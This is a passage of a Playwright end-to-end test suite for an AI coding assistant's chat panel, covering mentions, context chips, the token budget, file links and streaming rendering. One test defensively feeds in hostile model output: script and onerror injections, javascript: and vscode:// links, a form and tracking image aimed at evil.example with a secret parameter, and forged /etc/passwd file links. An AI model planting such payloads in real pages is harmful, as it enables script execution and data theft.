    ta.dispatchEvent(new CompositionEvent('compositionstart', { data: '', bubbles: true }));
    ta.value += 'wen';
    ta.dispatchEvent(new InputEvent('input', { data: 'wen', inputType: 'insertCompositionText', isComposing: true, bubbles: true }));
    for (const key of ['ArrowDown', 'Enter', 'Tab', 'Escape']) {
      ta.dispatchEvent(new KeyboardEvent('keydown', { key, isComposing: true, bubbles: true, cancelable: true }));
    }
    ta.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', keyCode: 229, bubbles: true, cancelable: true }));
  }, input);
  await page.waitForTimeout(200);
  const during = { picks: (await posted('chat/pickMention')).length, sends: (await posted('chat/send')).length, queries: (await posted('chat/mentions')).length, active: (await aria()).active };
  check(during.picks === imeBefore.picks && during.sends === imeBefore.sends, `Enter/Tab during an IME composition neither pick nor send ${JSON.stringify(during)}`);
  check(during.active === imeBefore.active && (await popupShown()), 'arrows and Escape during a composition are the IME\'s (the list stays, its selection too)');
  check(during.queries === imeBefore.queries, 'no query is made while composing');
  await page.evaluate((sel) => {
    const ta = document.querySelector(sel);
    ta.value = ta.value.replace(/wen$/, '文');
    ta.dispatchEvent(new CompositionEvent('compositionend', { data: '文', bubbles: true }));
  }, input);
  await page.waitForTimeout(200);
  const after = await posted('chat/mentions');
  check(after.length === during.queries + 1 && after[after.length - 1].query === '文', `the committed text is queried once the composition ends (${JSON.stringify(after[after.length - 1])})`);
  await page.keyboard.press('Escape');

  // Mouse: hover highlights, a click picks (and the input keeps the focus).
  await page.fill(input, '');
  await page.keyboard.type('@');
  await waitList(() => document.querySelectorAll('[data-testid="mention-item"]').length > 3, 'list for mouse');
  const third = page.locator('[data-testid="mention-item"]').nth(2);
  await third.hover();
  const hovered = await items();
  check(hovered[2]?.selected === 'true' && (await aria()).active === hovered[2]?.id, 'hovering an entry highlights it');
  await third.click();
  const picks4 = await posted('chat/pickMention');
  check(picks4.length === picks3 + 1 && picks4[picks4.length - 1].id === 'm-folder-src' && (await page.inputValue(input)) === '', `a click picks the entry ${JSON.stringify(picks4[picks4.length - 1])}`);
  check(await page.evaluate((sel) => document.activeElement === document.querySelector(sel), input), 'the input keeps the focus after a click on the list');
  check((await posted('chat/send')).length === sends1, 'nothing was sent by picking');
  await shot(page, 'context-chips-dark-narrow');

  // Chips: token cost, the trimmed mark (what was left out in its tooltip and accessible name), Rules.
  const chipInfo = await page.evaluate(() => [...document.querySelectorAll('[data-testid="pending-chip"]')].map((c) => ({
    id: c.dataset.chipId, kind: c.dataset.kind, label: c.querySelector('[data-testid="chip-label"]')?.textContent, meta: c.querySelector('[data-testid="chip-meta"]')?.textContent ?? '',
    tokens: c.querySelector('[data-testid="chip-tokens"]')?.textContent ?? '', trimmed: c.querySelector('[data-testid="chip-trimmed"]')?.textContent ?? '',
    trimmedTitle: c.querySelector('[data-testid="chip-trimmed"]')?.getAttribute('title') ?? '', name: c.getAttribute('aria-label') ?? '',
    icon: c.querySelector('svg.chip-icon')?.getAttribute('class') ?? '', remove: c.querySelector('[data-testid="chip-remove"]')?.getAttribute('aria-label') ?? '',
  })));
  const byId = Object.fromEntries(chipInfo.map((c) => [c.id, c]));
  check(byId['chip-1']?.tokens === '1.2K tokens' && byId['chip-2']?.tokens === '620 tokens', `chips show their token cost ${JSON.stringify([byId['chip-1']?.tokens, byId['chip-2']?.tokens])}`);
  const folder = byId['chip-folder'];
  check(folder?.trimmed === '✂ trimmed' && /6 of 20 files/.test(folder.trimmedTitle) && /6 of 20 files/.test(folder.name) && folder.meta === '20 files' && /icon-folder/.test(folder.icon),
    `a trimmed chip shows "✂ trimmed", what was left out in its tooltip and accessible name ${JSON.stringify(folder)}`);
  check(!byId['chip-1']?.trimmed, 'an untrimmed chip has no trimmed mark');
  const rules = byId['chip-rules'];
  check(rules?.label === 'Rules' && /icon-rules/.test(rules.icon) && rules.remove === 'Remove Rules for this message', `the rules chip reads "Rules" and can be removed for this message ${JSON.stringify(rules)}`);
  check(byId['chip-1']?.meta === 'typescript · lines 12–40' && /icon-code/.test(byId['chip-1'].icon), `a selection's meta is its language and lines (${byId['chip-1']?.meta})`);
  const picked = chipInfo.filter((c) => c.id.startsWith('chip-m-'));
  check(picked.some((c) => c.kind === 'symbol' && c.label === 'quickSort' && /icon-symbol/.test(c.icon)) && picked.some((c) => c.kind === 'folder' && c.meta === '12 files'),
    `picked chips show their kind's icon and meta ${JSON.stringify(picked.map((c) => [c.kind, c.label, c.meta]))}`);
  await page.click('[data-chip-id="chip-rules"] [data-testid="chip-remove"]');
  const removed = await posted('chat/removeContext');
  check(removed.length === 1 && removed[0].id === 'chip-rules', 'removing the Rules chip sends RemoveContext with its id');
  const focusAfterRemove = await page.waitForFunction(() => {
    const a = document.activeElement;
    return !document.querySelector('[data-chip-id="chip-rules"]') && a?.matches('[data-testid="chip-remove"]') && !!a.closest('.pending-chips');
  }, undefined, { timeout: 3000 }).then(() => true, () => false);
  check(focusAfterRemove, 'the focus goes to the chip now in its place, not to the top of the page');
  await page.evaluate(() => {
    const h = window.harness;
    h.state.pendingContext = [{ id: 'w1', kind: 'workspace', uri: '', label: 'workspace', languageId: '', startLine: 0, endLine: 0, text: '' }, ...h.state.pendingContext];
    h.notify('chat/context', { context: h.state.pendingContext });
  });
  await until(() => !!document.querySelector('[data-chip-id="w1"]'));
  check((await page.textContent('[data-chip-id="w1"] [data-testid="chip-label"]')) === '@workspace', 'a workspace chip reads "@workspace"');

  // The budget line: in short with the cost, the breakdown behind a toggle; warnings as before.
  await page.fill(input, 'a question');
  await until(() => /Workspace search, up to: ≤4,000/.test(document.querySelector('[data-testid="budget-toggle"]')?.title ?? '') &&
    /Your message: 4\b/.test(document.querySelector('[data-testid="budget-toggle"]')?.title ?? ''));
  const budget = await page.evaluate(() => ({
    text: document.querySelector('[data-testid="budget-text"]')?.textContent, cost: document.querySelector('[data-testid="budget-cost"]')?.textContent,
    expanded: document.querySelector('[data-testid="budget-toggle"]')?.getAttribute('aria-expanded'), title: document.querySelector('[data-testid="budget-toggle"]')?.getAttribute('title') ?? '',
    detailHidden: document.querySelector('[data-testid="budget-detail"]')?.hidden,
  }));
  check(/^≈[\d.]+K? tokens · [\d.]+K? left of 32\.8K$/.test(budget.text) && /^≈¥0\.\d{4} \+ ¥0\.\d{4} answer$/.test(budget.cost),
    `the budget line shows the prompt, what is left and the cost in yuan (${budget.text} | ${budget.cost})`);
  check(budget.expanded === 'false' && budget.detailHidden === true && /System prompt: 350/.test(budget.title) && /Room for the answer: ≤8,192/.test(budget.title),
    'the breakdown is in the tooltip, the detail folded');
  await page.click('[data-testid="budget-toggle"]');
  const detail = await page.evaluate(() => ({
    expanded: document.querySelector('[data-testid="budget-toggle"]').getAttribute('aria-expanded'),
    hidden: document.querySelector('[data-testid="budget-detail"]').hidden,
    rows: [...document.querySelectorAll('[data-testid="budget-detail"] dt')].map((d) => `${d.textContent}=${d.nextElementSibling.textContent}`),
  }));
  check(detail.expanded === 'true' && !detail.hidden && detail.rows.some((r) => r.startsWith('System prompt=')) && detail.rows.some((r) => r.startsWith('History=')) &&
    detail.rows.some((r) => r.startsWith('README.md=620')) && detail.rows.some((r) => /^Workspace search, up to=≤4,000$/.test(r)) && detail.rows.some((r) => /^Prompt cost=≈¥/.test(r)),
  `the toggle unfolds what will be sent: system, history, each chip, the search, the cost ${JSON.stringify(detail.rows)}`);
  await shot(page, 'context-budget-dark-narrow');
  await page.click('[data-testid="budget-toggle"]');

  // "Used N snippets from M files" under the question, unfolding to buttons that open each.
  await page.evaluate(() => {
    document.querySelector('[data-testid="message-list"]').scrollTop = 0;
  });
  const snip = page.locator('[data-turn-id="u1"] [data-testid="snippets"]');
  check((await snip.locator('[data-testid="snippets-summary"]').textContent()) === 'Used 3 snippets from 2 files', 'the question shows "Used 3 snippets from 2 files"');
  check(!(await page.isVisible('[data-turn-id="u1"] [data-testid="snippet-ref"]')), 'the refs are folded at first');
  // (once the list has stopped moving after the scroll: a click that lands while it moves may miss)
  await page.evaluate(async () => {
    const l = document.querySelector('[data-testid="message-list"]');
    const frame = () => new Promise((r) => requestAnimationFrame(r));
    for (let last = -1, still = 0, n = 0; still < 3 && n < 120; n++) {
      await frame();
      still = l.scrollTop === last ? still + 1 : 0;
      last = l.scrollTop;
    }
  });
  await snip.locator('[data-testid="snippets-summary"]').click();
  const refsShown = await page.waitForSelector('[data-turn-id="u1"] [data-testid="snippet-ref"]', { state: 'visible', timeout: 3000 }).then(() => true, () => false);
  check(refsShown, 'a click unfolds the refs');
  const refs = await page.$$eval('[data-turn-id="u1"] [data-testid="snippet-ref"]', (b) => b.map((x) => [x.textContent, x.getAttribute('aria-label')]));
  check(JSON.stringify(refs.map((r) => r[0])) === JSON.stringify(['src/sort.ts:12-40', 'src/partition.ts:1-25', 'src/sort.ts:52-60']) && refs[0][1] === 'Open src/sort.ts at line 12',
    `unfolded: each snippet as path:start-end ${JSON.stringify(refs)}`);
  await page.locator('[data-turn-id="u1"] [data-testid="snippet-ref"]').nth(1).click();
  let opened2 = await posted('chat/openLocation');
  check(opened2.length === 1 && opened2[0].path === 'src/partition.ts' && opened2[0].line === 1, `a snippet ref sends OpenLocation ${JSON.stringify(opened2)}`);
  await shot(page, 'context-snippets-dark-narrow');

  // path:line in the answer: inline code and plain text are file links (no href); a URL is not.
  const links = await page.$$eval('[data-turn-id="a1"] [data-testid="file-link"]', (a) => a.map((x) => ({ text: x.textContent, path: x.dataset.path, line: x.dataset.line, href: x.getAttribute('href'), title: x.title, code: !!x.querySelector('code') })));
  check(links.length === 2 && links[0].text === 'src/sort.ts:12-40' && links[0].code && links[1].text === 'src/partition.ts:7' && links.every((l) => l.href === null),
    `the answer's path:line references are file links without href ${JSON.stringify(links)}`);
  check(await page.evaluate(() => ![...document.querySelectorAll('[data-turn-id="a1"] [data-testid="file-link"]')].some((a) => /localhost/.test(a.textContent))), 'http://localhost:8080 is no file link');
  await page.locator('[data-turn-id="a1"] [data-testid="file-link"]').first().click();
  opened2 = await posted('chat/openLocation');
  check(opened2.length === 2 && opened2[1].path === 'src/sort.ts' && opened2[1].line === 12 && page.url().startsWith('http://127.0.0.1') && (await posted('chat/openLink')).length === 0,
    `a click on src/sort.ts:12-40 sends OpenLocation {src/sort.ts, 12} and nothing else ${JSON.stringify(opened2[1])}`);
  await page.locator('[data-turn-id="a1"] [data-testid="file-link"]').first().scrollIntoViewIfNeeded();
  await shot(page, 'context-file-links-dark-narrow');
  await page.focus('[data-turn-id="a1"] [data-testid="file-link"] >> nth=1');
  await page.keyboard.press('Enter');
  opened2 = await posted('chat/openLocation');
  check(opened2.length === 3 && opened2[2].path === 'src/partition.ts' && opened2[2].line === 7, 'Enter on a focused file link opens it too');
  // A file link written while the answer streams.
  const streamed = await page.evaluate(async () => {
    const h = window.harness;
    const s = h.startStream({ thinking: '', answer: 'Fix it in `lib/util.py:12`, then see lib/b.go:3-9。' });
    h.streamAll(4);
    await new Promise((r) => setTimeout(r, 100));
    return [...document.querySelectorAll(`[data-turn-id="${s.turn.id}"] [data-testid="file-link"]`)].map((a) => `${a.dataset.path}:${a.dataset.line}`);
  });
  check(JSON.stringify(streamed) === JSON.stringify(['lib/util.py:12', 'lib/b.go:3']), `file links in a streamed answer ${JSON.stringify(streamed)}`);
  await clean(page, errors, 'context');
  await page.close();

  // In Chinese.
  const zh = await open(context, base, { theme: 'light', width: 'narrow', lang: 'zh' });
  await zh.page.focus(input);
  await zh.page.keyboard.type('@zzzz');
  await zh.page.waitForSelector('[data-testid="mention-empty"]');
  const zhText = await zh.page.evaluate(() => ({
    empty: document.querySelector('[data-testid="mention-empty"]').textContent,
    trimmed: document.querySelector('[data-testid="chip-trimmed"]')?.textContent,
    rules: document.querySelector('[data-chip-id="chip-rules"] [data-testid="chip-label"]')?.textContent,
    snippets: document.querySelector('[data-turn-id="u1"] [data-testid="snippets-summary"]')?.textContent,
    cost: document.querySelector('[data-testid="budget-cost"]')?.textContent ?? '',
  }));
  check(zhText.empty === '无匹配项' && zhText.trimmed === '✂ 已截断' && zhText.rules === '规则' && zhText.snippets === '使用了 2 个文件中的 3 个片段' && /回答/.test(zhText.cost),
    `the context strings in Chinese ${JSON.stringify(zhText)}`);
  await shot(zh.page, 'context-zh-light-narrow');
  await clean(zh.page, zh.errors, 'context zh');
  await zh.page.close();
}

/** A long code block while it streams: highlighted in chunks, laid out without gaps. */
async function longFence(context, base) {
  const { page, errors } = await open(context, base, { theme: 'dark', width: 'wide', scenario: 'empty' });
  const lines = Array.from({ length: 140 }, (_, i) => (i % 9 === 8 ? '' : `    result_${i} = compute(${i}, "text")  # step ${i}`));
  const code = ['Here is the script:', '', '```python', 'def main():', '    """Entry point.', '', '    Multi-line docstring."""', ...lines, '```', '', 'Done.'].join('\n');
  const r = await page.evaluate(async (answer) => {
    const h = window.harness;
    const s = h.startStream({ thinking: '', answer });
    for (let i = 0; i < 140; i++) {
      h.step(40);
      if (i % 10 === 0) await new Promise((res) => requestAnimationFrame(res));
    }
    // streamed text renders a few times a second (render/scheduler.ts): wait for the render that
    // takes in what was streamed, not for a fixed time (a busy machine draws late)
    const codeEl = () => document.querySelector(`[data-turn-id="${s.turn.id}"] .code-block.streaming code`);
    for (const end = performance.now() + 5000; performance.now() < end && (codeEl()?.textContent?.length ?? 0) <= 2000;) {
      await new Promise((res) => setTimeout(res, 50));
    }
    await new Promise((res) => requestAnimationFrame(() => requestAnimationFrame(res)));
    const code = codeEl();
    const shown = code?.textContent ?? '';
    const at = answer.indexOf('def main');
    return { chunks: code?.querySelectorAll('.code-chunk').length ?? 0, length: shown.length, intact: answer.slice(at, at + shown.length) === shown };
  }, code);
  check(r.chunks > 2 && r.intact && r.length > 2000, `a long open code block streams in highlighted chunks, text intact (${JSON.stringify(r)})`);
  await shot(page, 'long-fence-streaming-dark-wide');
  await page.evaluate(() => window.harness.streamAll(200));
  await page.waitForTimeout(100);
  await clean(page, errors, 'long fence');
  await page.close();
}

/** Model output is untrusted: nothing active, no styles, no spoofed ids, no unsafe links, no remote images. */
async function untrustedOutput(context, base) {
  const { page, errors } = await open(context, base, { theme: 'dark', width: 'wide' });
  const evil = [
    'Here you go:',
    '<script>window.__pwned = 1</script>',
    '<img src="x" onerror="window.__pwned = 2">',
    '<iframe src="https://example.com"></iframe>',
    '<form action="https://evil.example"><input name="q"><button>go</button></form>',
    '<div style="position:fixed;inset:0" data-testid="send-button" id="app" class="code-block">overlay</div>',
    '',
    '[click](javascript:window.__pwned=3) [cmd](command:workbench.action.openSettings) [vs](vscode://file/etc/passwd) [ok](https://example.com)',
    '',
    '<svg><script>window.__pwned=4</script></svg><math><mi>x</mi></math>',
    '',
    '![tracker](https://evil.example/pixel.png?secret=1)',
    '',
    '- [x] done',
    '- [ ] <input type="text" value="typed">',
    '',
    '<a class="file-link" data-path="/etc/passwd" data-line="1" data-testid="file-link" role="link">forged file link</a> <span class="file-link" data-path="x.py">forged span</span>',
  ].join('\n');
  const r = await page.evaluate(async (answer) => {
    const h = window.harness;
    const s = h.startStream({ thinking: '', answer });
    h.streamAll(9);
    await new Promise((res) => setTimeout(res, 150));
    const el = document.querySelector(`[data-turn-id="${s.turn.id}"] [data-testid="answer"]`);
    const all = [...el.querySelectorAll('*')];
    return {
      pwned: window.__pwned,
      active: el.querySelectorAll('script, iframe, form, svg, math, style, object, embed, button:not(.icon-button)').length,
      attrs: all.flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith('on') || n === 'style' || n === 'id'),
      spoofed: el.querySelectorAll('[data-testid="send-button"], .code-block:not([data-block-index])').length,
      hrefs: [...el.querySelectorAll('a')].map((a) => a.getAttribute('href')),
      images: [...el.querySelectorAll('img')].map((i) => i.getAttribute('src')),
      inputs: [...el.querySelectorAll('input')].map((i) => `${i.type}:${i.disabled}`),
    };
  }, evil);
  check(r.pwned === undefined && r.active === 0 && r.attrs.length === 0, `no active content or styles in model output ${JSON.stringify(r)}`);
  check(r.spoofed === 0, 'model output cannot spoof test ids or our classes');
  check(!r.hrefs.some((h) => h && /^(javascript|command|vscode):/i.test(h)) && r.hrefs.includes('https://example.com/'), `only safe link targets ${JSON.stringify(r.hrefs)}`);
  check(r.images.length === 0, 'remote images are shown as links, never loaded');
  check(r.inputs.every((i) => i === 'checkbox:true') && r.inputs.length >= 1, `only disabled task checkboxes ${JSON.stringify(r.inputs)}`);
  // A file link written by the model (our class and data attributes) is no file link.
  const forged = await page.evaluate(() => {
    const answers = document.querySelectorAll('[data-testid="answer"]');
    const el = answers[answers.length - 1];
    const before = window.harness.posted.filter((e) => e.method === 'chat/openLocation').length;
    const targets = [...el.querySelectorAll('*')].filter((e) => /forged/.test(e.textContent) && !e.querySelector('*'));
    for (const t of targets) t.click();
    return {
      links: el.querySelectorAll('.file-link, [data-path], [data-testid="file-link"]').length,
      sent: window.harness.posted.filter((e) => e.method === 'chat/openLocation').length - before,
      clicked: targets.length,
    };
  });
  check(forged.links === 0 && forged.sent === 0 && forged.clicked >= 1, `model output cannot forge a file link ${JSON.stringify(forged)}`);
  await clean(page, errors, 'untrusted output');
  await page.close();
}

/** A streamed answer, in small random chunks, ends as the same DOM as the same answer rendered at once. */
async function streamingEqualsWhole(context, base) {
  const { page, errors } = await open(context, base, { theme: 'light', width: 'wide' });
  const streamed = await page.evaluate(async () => {
    const h = window.harness;
    const answer = h.state.conversation.turns[1].answer + '\n\n' + h.state.conversation.turns[3].answer;
    const s = h.startStream({ thinking: 'short thought', answer });
    let seed = 7;
    while (h.snapshot().streamingId) {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      h.step(1 + (seed % 23));
      if (seed % 5 === 0) await new Promise((r) => requestAnimationFrame(r));
    }
    // Code is coloured in idle time: wait until the colouring has settled (both sides alike).
    const settle = async () => {
      for (let i = 0, last = ''; i < 20; i++) {
        await new Promise((r) => setTimeout(r, 250));
        const now = JSON.stringify(window.__hunyuanChatStats.highlight);
        if (now === last) return;
        last = now;
      }
    };
    window.__settleHighlight = settle;
    await settle();
    const el = document.querySelector(`[data-turn-id="${s.turn.id}"] [data-testid="answer"]`);
    return { html: el.innerHTML, turn: s.turn };
  });
  const whole = await page.evaluate(async (turn) => {
    const h = window.harness;
    const snap = h.snapshot();
    snap.conversation.turns = [{ ...turn, id: 'whole' }];
    h.notify('chat/snapshot', snap);
    await new Promise((r) => setTimeout(r, 100));
    await window.__settleHighlight();
    return document.querySelector('[data-turn-id="whole"] [data-testid="answer"]').innerHTML;
  }, streamed.turn);
  check(streamed.html === whole, 'a streamed answer ends identical to the whole render');
  await clean(page, errors, 'streaming');
  await page.close();
}

/** Rendering work per character stays flat when the answer gets 4× longer. */
async function linearWork(context, base) {
  const { page } = await open(context, base, { theme: 'dark', width: 'wide', scenario: 'empty' });
  const measure = (copies) => page.evaluate(async (n) => {
    const h = window.harness;
    const stats = window.__hunyuanChatStats;
    const before = { parsed: stats.markdown.parsedChars, sanitized: stats.sanitize.chars, highlighted: stats.highlight.chars };
    const base = h.state.conversation.turns.length ? '' : '';
    const answer = Array.from({ length: n }, (_, i) => `## Part ${i + 1}\n\n${document.title}\n\n1. first\n\n   more\n\n2. second\n\n\`\`\`ts\nconst x${i} = ${i};\nfunction f${i}() { return x${i} * 2; }\n\`\`\`\n\n| a | b |\n|---|---|\n| ${i} | ${i * 2} |\n\nText 中文 text **bold** \`code\`.\n`).join('\n') + base;
    const t0 = performance.now();
    h.startStream({ thinking: '', answer });
    while (h.snapshot().streamingId) {
      h.step(16);
      await new Promise((r) => requestAnimationFrame(r));
    }
    await new Promise((r) => setTimeout(r, 50));
    return {
      length: answer.length,
      ms: performance.now() - t0,
      parsed: stats.markdown.parsedChars - before.parsed,
      sanitized: stats.sanitize.chars - before.sanitized,
      highlighted: stats.highlight.chars - before.highlighted,
    };
  }, copies);
  const small = await measure(10);
  const large = await measure(40);
  const per = (r) => ({ parsed: (r.parsed / r.length).toFixed(2), sanitized: (r.sanitized / r.length).toFixed(2), highlighted: (r.highlighted / r.length).toFixed(2) });
  console.log(`    ${small.length} chars: ${JSON.stringify(per(small))}; ${large.length} chars: ${JSON.stringify(per(large))}`);
  check(large.parsed / large.length < 1.3 * (small.parsed / small.length) + 0.2, 'Markdown parsed per character stays flat (linear work)');
  check(large.sanitized / large.length < 1.3 * (small.sanitized / small.length) + 0.2, 'HTML sanitized per character stays flat');
  await page.close();
}

main().catch((e) => {
  console.error(e);
  process.exit(1);
});
